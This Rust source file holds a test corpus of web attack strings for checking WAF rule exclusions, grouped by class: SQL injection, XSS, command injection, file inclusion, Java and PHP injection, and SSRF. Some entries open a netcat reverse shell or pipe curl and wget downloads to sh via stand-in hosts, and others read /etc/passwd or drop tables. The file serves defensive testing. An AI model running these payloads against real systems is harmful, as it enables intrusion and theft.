//! A small corpus of attacks, to show what an exclusion opens and what it does not.
//!
//! Each class has attacks that its rules know in several ways, so that an exclusion of one rule is tried against the
//! others. They are strings for tests: hosts and addresses in them are reserved for documentation.

/// What an attack is after, as the tags of the Core Rule Set name it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Shell commands.
    Rce,
    /// Paths to local files.
    Lfi,
    /// Files of other servers.
    Rfi,
    /// PHP code and objects.
    Php,
    /// Java code and objects, and lookups in log messages.
    Java,
    /// Node.js, templates and prototypes.
    Generic,
    /// Session fixation.
    Session,
    /// Heads and requests in values.
    Protocol,
    /// Requests to internal addresses.
    Ssrf,
}

/// One attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Attack {
    pub(super) class: Class,
    pub(super) value: &'static str,
}

impl Class {
    /// As a table shows it.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Sqli => "sqli",
            Self::Xss => "xss",
            Self::Rce => "rce",
            Self::Lfi => "lfi",
            Self::Rfi => "rfi",
            Self::Php => "php",
            Self::Java => "java",
            Self::Generic => "nodejs and templates",
            Self::Session => "session fixation",
            Self::Protocol => "protocol",
            Self::Ssrf => "ssrf",
        }
    }

    /// The class that a tag of a rule means. `attack-generic` means none.
    pub(super) fn of_tag(tag: &str) -> Option<Self> {
        Some(match tag {
            "attack-sqli" => Self::Sqli,
            "attack-xss" => Self::Xss,
            "attack-rce" | "language-shell" => Self::Rce,
            "attack-lfi" => Self::Lfi,
            "attack-rfi" => Self::Rfi,
            "attack-injection-php" => Self::Php,
            "attack-injection-java" | "language-java" => Self::Java,
            "attack-injection-generic" => Self::Generic,
            "attack-fixation" => Self::Session,
            "attack-protocol" | "attack-ldap" => Self::Protocol,
            "attack-ssrf" => Self::Ssrf,
            _ => return None,
        })
    }
}

const fn all<const N: usize>(class: Class, values: [&'static str; N]) -> [Attack; N] {
    let mut attacks = [Attack { class, value: "" }; N];
    let mut at = 0;
    while at < N {
        // `at` is below the length of both.
        #[allow(clippy::indexing_slicing)]
        {
            attacks[at].value = values[at];
        }
        at += 1;
    }
    attacks
}

/// Every attack, class by class.
pub(super) fn corpus() -> impl Iterator<Item = &'static Attack> {
    let classes: [&'static [Attack]; 11] = [
        &SQLI, &XSS, &RCE, &LFI, &RFI, &PHP, &JAVA, &GENERIC, &SESSION, &PROTOCOL, &SSRF,
    ];
    classes.into_iter().flatten()
}

static SQLI: [Attack; 9] = all(
    Class::Sqli,
    [
        "1' OR '1'='1",
        "1 UNION ALL SELECT username,password FROM users--",
        "1'; DROP TABLE orders; --",
        "1' AND SLEEP(5)#",
        "admin'/*",
        "1 AND 1=CONVERT(int,(SELECT @@version))--",
        "'; EXEC master..xp_cmdshell 'dir'--",
        "-1 or (select count(*) from information_schema.tables)>0",
        "1;select pg_sleep(5)--",
    ],
);

static XSS: [Attack; 8] = all(
    Class::Xss,
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(document.cookie)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "' onfocus=alert(1) autofocus x='",
        "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
        "<style>@import 'http://192.0.2.66/x.css';</style>",
    ],
);

static RCE: [Attack; 8] = all(
    Class::Rce,
    [
        "; cat /etc/passwd",
        "| nc -e /bin/sh 192.0.2.66 4444",
        "$(curl http://192.0.2.66/x.sh|sh)",
        "x;wget http://192.0.2.66/x -O- | sh",
        "() { :; }; /bin/bash -c id",
        "& ping -n 3 192.0.2.66 &",
        "x || whoami && uname -a",
        "powershell.exe -enc SQBFAFgA; Invoke-Expression x",
    ],
);

static LFI: [Attack; 5] = all(
    Class::Lfi,
    [
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc/shadow",
        "/proc/self/environ",
        "..\\..\\..\\windows\\win.ini",
        "../../.git/config",
    ],
);

static RFI: [Attack; 3] = all(
    Class::Rfi,
    [
        "http://192.0.2.66/shell.txt?",
        "https://evil.example/shell.php?",
        "ftp://user:x@evil.example/shell.txt",
    ],
);

static PHP: [Attack; 5] = all(
    Class::Php,
    [
        "<?php system($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "$_POST[x](base64_decode('aWQ='));",
        "call_user_func('shell_exec','id')",
    ],
);

static JAVA: [Attack; 5] = all(
    Class::Java,
    [
        "${jndi:ldap://evil.example/a}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ],
);

static GENERIC: [Attack; 5] = all(
    Class::Generic,
    [
        "require('child_process').execSync('id')",
        "_$$ND_FUNC$$_function(){return 1}()",
        "{\"__proto__\":{\"admin\":true}}",
        "x.constructor.prototype.admin=1",
        "<%= system('id') %>",
    ],
);

static SESSION: [Attack; 2] = all(
    Class::Session,
    [
        "document.cookie=\"sessionid=1; domain=.example.com\"; x.cookie; domain=evil.example",
        "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=1\">",
    ],
);

static PROTOCOL: [Attack; 4] = all(
    Class::Protocol,
    [
        "x\r\nSet-Cookie: session=1",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
        "GET /admin HTTP/1.1\r\nHost: internal",
        "*)(uid=*))(|(uid=*",
    ],
);

static SSRF: [Attack; 2] = all(
    Class::Ssrf,
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
    ],
);
